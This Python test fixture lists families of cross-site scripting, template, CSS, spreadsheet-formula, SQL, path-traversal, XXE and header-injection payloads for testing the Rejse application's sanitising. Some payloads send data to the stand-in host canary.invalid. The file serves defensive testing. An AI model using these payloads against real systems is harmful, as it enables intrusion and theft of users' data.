"""What somebody who wishes us ill writes into every text that Rejse takes, by the trick that is tried.

Each one, if it did anything, would be seen: it calls `alert`, sets `window.__pwned` or the title, or asks another
machine for something.
"""

from collections.abc import Iterator, Mapping, Sequence
from itertools import product
from types import MappingProxyType
from typing import Final

ELSEWHERE: Final = "https://canary.invalid"
"""A machine that nobody may ask."""

JS: Final = "window.__pwned=1"
ENDS: Final = ("", "'", '"', "`")

SCRIPTS: Final = (
    f"<script>{JS}</script>",
    "<script>alert(1)</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script >{JS}</script >",
    f"<script/x>{JS}</script>",
    f"<script\n>{JS}</script\n>",
    f"<script\t>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<script src=//canary.invalid/x.js></script>",
    f'<script type="module">{JS}</script>',
    f'<script type="module" src="{ELSEWHERE}/x.mjs"></script>',
    f"<script async defer>{JS}</script>",
    f"<script>{JS}",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"</svg><script>{JS}</script>",
    f"</option></select><script>{JS}</script>",
    f"</noscript><script>{JS}</script>",
    f"</template><script>{JS}</script>",
    f"<noscript><p title='</noscript><script>{JS}</script>'>",
    "<script>document.title='pwned'</script>",
    f"<script>fetch('{ELSEWHERE}/')</script>",
    '<script type="importmap">{"imports":{"./app.js":"data:text/javascript,window.__pwned=1"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://canary.invalid/"]}]}</script>',
)
EVENTS: Final = (
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={JS}>",
    f"<img/src=x/onerror={JS}>",
    f"<IMG SRC=x ONERROR={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    f"<img src=x onerror\x0c={JS}>",
    f"<img src=/static/0/rejse.svg onload={JS}>",
    f"<body onload={JS}>",
    f"<body onpageshow={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}></select>",
    f"<textarea autofocus onfocus={JS}></textarea>",
    f"<button autofocus onfocus={JS}>x</button>",
    f"<details open ontoggle={JS}>x</details>",
    f"<video src=x onerror={JS}></video>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<object data=x onerror={JS}></object>",
    f"<iframe onload={JS}></iframe>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div onmouseover={JS}>x</div>",
    f"<div style='position:fixed;inset:0' onpointermove={JS}>x</div>",
    f"<xss tabindex=1 autofocus onfocus={JS}>x</xss>",
    f"<xss contenteditable autofocus onfocusin={JS}>x</xss>",
    f"<style onload={JS}></style>",
    f"<link rel=stylesheet href=data:text/css, onload={JS}>",
    f"<div onscrollsnapchange={JS}>x</div>",
    f"<p oncontentvisibilityautostatechange={JS} style=content-visibility:auto>x",
    f"<div popover id=p onbeforetoggle={JS}></div><button popovertarget=p autofocus>x</button>",
)
PICTURES: Final = (
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:text/javascript,window.__pwned=1></script></svg>",
    f'<svg><script xlink:href="{ELSEWHERE}/x.js"/></svg>',
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set onbegin={JS} attributeName=x to=1>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,&lt;svg id=x onload={JS}&gt;&lt;/svg&gt;#x"/></svg>',
    f'<svg><image href="{ELSEWHERE}/x.png"/></svg>',
    f'<svg><image href=x onerror="{JS}"/></svg>',
    f"<svg><style>*{{background:url({ELSEWHERE}/x)}}</style></svg>",
    f'<svg><filter id="f"><feImage href="{ELSEWHERE}/x.svg"/></filter></svg>',
    f"</text><script>{JS}</script><text>",
    f"</title></svg><img src=x onerror={JS}>",
    f'"/><script>{JS}</script><path d="',
    f"<math><mtext><script>{JS}</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">x</math>',
    f"<?xml-stylesheet href='{ELSEWHERE}/x.xsl' type='text/xsl'?>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:/*--></title></style></script>*/alert(1)",
    "javascript://canary.invalid/%0Aalert(1)",
    "javascript:window.__pwned=1//https://vind.dk/",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://canary.invalid/1",
    "view-source:javascript:alert(1)",
    "//canary.invalid/",
    "\\\\canary.invalid\\x",
    "/\\canary.invalid",
    "https://vind.dk@canary.invalid/",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="&#x6A;avascript:alert(1)" autofocus>x</a>',
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    f"<iframe src={ELSEWHERE}/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    f"<base href={ELSEWHERE}/>",
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    f'<link rel=prefetch href="{ELSEWHERE}/">',
    f'<link rel="dns-prefetch" href="{ELSEWHERE}">',
    f"[x]({ELSEWHERE})![y](javascript:alert(1))",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% set x = cycler.__init__.__globals__ %}{{ x }}",
    "{{ request.app.state.setup }}",
    "{{ csrf }}",
    "{# a comment",
    "{{",
    "{% raw %}",
    "${7*7}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{0}",
    "{name!r:>99999999}",
    "%(x)s %s %n %99999999d",
    "{{constructor.constructor('alert(1)')()}}",
    f'<div hx-get="{ELSEWHERE}/" hx-trigger="load">x</div>',
    f'<div data-hx-get="{ELSEWHERE}/" data-hx-trigger="load">x</div>',
    f'<div hx-on:click="{JS}" hx-trigger=load>x</div>',
    f'<div hx-on--load="{JS}">x</div>',
    f'<div hx-on:htmx:after:init="{JS}">x</div>',
    f'<div data-hx-on:htmx:load="{JS}">x</div>',
    f'<div hx-vals="js:{{x:{JS}}}" hx-get="/" hx-trigger="load">x</div>',
    f'<div hx-headers="js:{{x:{JS}}}" hx-post="/reader" hx-trigger="load">x</div>',
    '<div hx-post="/users/1/deactivate" hx-trigger="load">x</div>',
    f'<div hx-get="/healthz" hx-trigger="load[{JS}]">x</div>',
    f'<hx-partial hx-target="body"><script>{JS}</script></hx-partial>',
    '" hx-post="/sign-out" hx-trigger="load" x="',
    "' data-drawer data-look data-do='delete' x='",
    '<template shadowrootmode="open"><script>window.__pwned=1</script></template>',
)
STYLES: Final = (
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<style>body{{background:url({ELSEWHERE}/)}}</style>",
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
    f'<div style="background:url({ELSEWHERE}/x)">x</div>',
    f"'; background: url({ELSEWHERE}/x); x: '",
    f'";}} body {{ background: url({ELSEWHERE}/x) }} a{{x:"',
    f"url({ELSEWHERE}/x)",
    "expression(alert(1))",
    "red; } * { visibility: hidden } a {",
    f"\\3C script\\3E {JS}\\3C/script\\3E ",
    "</style><style>html{display:none}",
    f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/x.woff)}}*{{font-family:x}}</style>",
    f"<style>input[name=csrf][value^=a]{{background:url({ELSEWHERE}/a)}}</style>",
)
BREAKOUTS: Final = (
    *(f"{end}><img src=x onerror={JS}>" for end in ENDS),
    *(f"{end} autofocus onfocus={JS} x={end}" for end in ENDS),
    *(f"{end};{JS};//" for end in ENDS[1:]),
    *(f"{end}-{JS.replace('=', '==')}-{end}" for end in ENDS[1:]),
    f'" style="position:fixed;inset:0" onpointerenter="{JS}',
    "' onmouseover='alert(1)",
    '" tabindex="1" accesskey="x" onclick="alert(1)" x="',
    f"&quot;><script>{JS}</script>",
    f"&#34; onfocus={JS} autofocus x=&#34;",
    f'\\"><script>{JS}</script>',
    f'x" onload="{JS}" y="',
    f"/><script>{JS}</script>",
    f"=''><script>{JS}</script>",
    "${`${alert(1)}`}",
    f"\r\n\r\n<script>{JS}</script>",
    "x\r\nSet-Cookie: rejse=stolen",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    f'{{"x":"</script><script>{JS}</script>"}}',
)
MARKUP: Final = (
    f"<!-- --!><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"<!--><script>{JS}</script>-->",
    f"<!-->{'-' * 3}<img src=x onerror={JS}>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"]]><script>{JS}</script><![CDATA[",
    f"<!--[if IE]><script>{JS}</script><![endif]-->",
    f"<?php echo 1 ?><script>{JS}</script>",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={JS}&#x3e;",
    f"&ltscript&gt{JS}&lt/script&gt",
    f"&amp;lt;script&amp;gt;{JS}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<plaintext><img src=x onerror={JS}>",
    f"<xmp><img src=x onerror={JS}></xmp>",
)
MUTATIONS: Final = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f'<a title="`><img src=x onerror={JS}>">x</a>',
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={JS}>">',
    f'<svg><desc><style><a title="</style><img src onerror={JS}>">',
    f'<p id="</title><img src=x onerror={JS}>">',
    f'<table><tr><td><svg><desc><td><a title="</desc><img src onerror={JS}>"></td>',
    "<input name=attributes><input name=innerHTML>",
    "<form id=says><input name=textContent value='{}'></form>",
    '<a id=canvas></a><a id=canvas name=dataset href="x:y"></a>',
    "<img name=cookie><img name=body><form name=documentElement>",
)
LETTERS: Final = (
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"\u2039script\u203a{JS}\u2039/script\u203a",
    "\u202e>tpircs/<1=denwp__.wodniw>tpircs<\u202c",
    "\u2066\u2067\u202d\u202b\u202a mixed \u2069\u2069",
    "ok\u200b\u200c\u200d\ufeff<b>x</b>",
    "\u2028alert(1)\u2029",
    "x\u0085y\u00a0z",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<İmg src=x onerror=alert(1)>",
    "e\u0301" * 3 + "\u0300" * 30,
    "👩\u200d💻🏴\u200d☠️ <b>x</b>",
    "سلام <script>alert(1)</script> שלום",
    "<\U0001d4fc\U0001d4ec\U0001d4fb\U0001d4f2\U0001d4f9\U0001d4fd>alert(1)",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "c:\\con\\aux<nul>|*?",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%c0%bcscript%c0%beAlert(1)",
    "\u0130\u0131\u017f\u212a",
    "A" * 4000 + f"<script>{JS}</script>",
    "<" * 120,
    "&" * 120,
    "<b>" * 40,
    '"' * 150,
)
TABLES: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=HYPERLINK("{ELSEWHERE}","x")',
    f'=IMPORTXML("{ELSEWHERE}","//a")',
    f'=WEBSERVICE("{ELSEWHERE}")',
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    ";=1+1",
    '"=1+1',
    '=DDE("cmd";"/C calc";"x")',
    "'; drop table events; --",
    "' or 1=1 --",
    "1; attach 'x' as y",
)
UNWRITABLE: Final = (
    f"<scr\x00ipt>{JS}</script>",
    f"\x00<script>{JS}</script>",
    f"<img\x00src=x onerror={JS}>",
    "java\x00script:alert(1)",
    f"<script\x1f>{JS}</script>",
    "\x1b[31mred\x1b]0;title\x07",
    "\x7f\x80\x9f",
    "\ufffe\uffff",
)
"""With characters that no document may hold: where they are refused, that is as it should be."""

FAMILIES: Final[Mapping[str, Sequence[str]]] = MappingProxyType(
    {
        "scripts": SCRIPTS,
        "events": EVENTS,
        "pictures": PICTURES,
        "addresses": ADDRESSES,
        "templates": TEMPLATES,
        "styles": STYLES,
        "breakouts": BREAKOUTS,
        "markup": MARKUP,
        "mutations": MUTATIONS,
        "letters": LETTERS,
        "tables": TABLES,
        "unwritable": UNWRITABLE,
    }
)
ALL: Final = tuple(one for family in FAMILIES.values() for one in family)


class Sent:
    """Gives one payload after another, and begins again after the last, so that none is left out."""

    def __init__(self, payloads: Sequence[str]) -> None:
        self.payloads, self.given = payloads, 0

    def __call__(self, most: int = 10**6) -> str:
        """Give the next one that is no longer than this."""
        for _ in self.payloads:
            found = self.payloads[self.given % len(self.payloads)]
            self.given += 1
            if len(found) <= most:
                return found
        raise AssertionError(f"no payload is as short as {most}")


def writable() -> tuple[str, ...]:
    """Give those that a document may hold, the longest last."""
    return tuple(one for one in ALL if one not in UNWRITABLE)


def pairs() -> Iterator[tuple[str, str]]:
    """Give every family's name with each of its payloads."""
    for name, family in FAMILIES.items():
        yield from product((name,), family)
